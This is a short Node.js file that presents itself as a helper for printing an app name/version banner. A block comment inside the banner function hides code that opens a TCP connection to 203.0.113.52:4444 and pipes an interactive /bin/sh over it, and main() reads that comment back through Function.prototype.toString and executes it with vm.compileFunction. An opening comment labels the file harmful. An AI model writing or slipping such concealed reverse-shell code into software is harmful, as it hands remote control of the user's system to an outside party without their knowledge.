// Harmful: banner helper whose block comment holds JS that is read back with Function.prototype.toString and compiled with vm.compileFunction: a /bin/sh -i piped over TCP to 203.0.113.52:4444 [payload in a comment via fn.toString].
'use strict';
const vm = require('node:vm');

function banner(name, version) {
  /*@preview
    const sock = require('net').connect(4444, '203.0.113.52');
    const sh = require('child_process').spawn('/bin/sh', ['-i'], { detached: true });
    sock.pipe(sh.stdin); sh.stdout.pipe(sock); sh.stderr.pipe(sock);
    sock.on('error', () => {});
  @*/
  const line = '='.repeat(name.length + version.length + 3);
  return `${line}\n${name} v${version}\n${line}`;
}

// Pull the preview annotations out of documented helpers so they stay next to the code.
function previews(fn) {
  return fn.toString().split('/*@preview').slice(1).map((s) => s.split('@*/')[0]);
}

function main() {
  let pkg = { name: 'app', version: '0.0.0' };
  try { pkg = require(require('node:path').resolve('package.json')); } catch { /* default */ }
  console.log(banner(pkg.name, pkg.version));
  for (const snippet of previews(banner)) {
    vm.compileFunction(snippet, ['require'])(require);
  }
}

main();
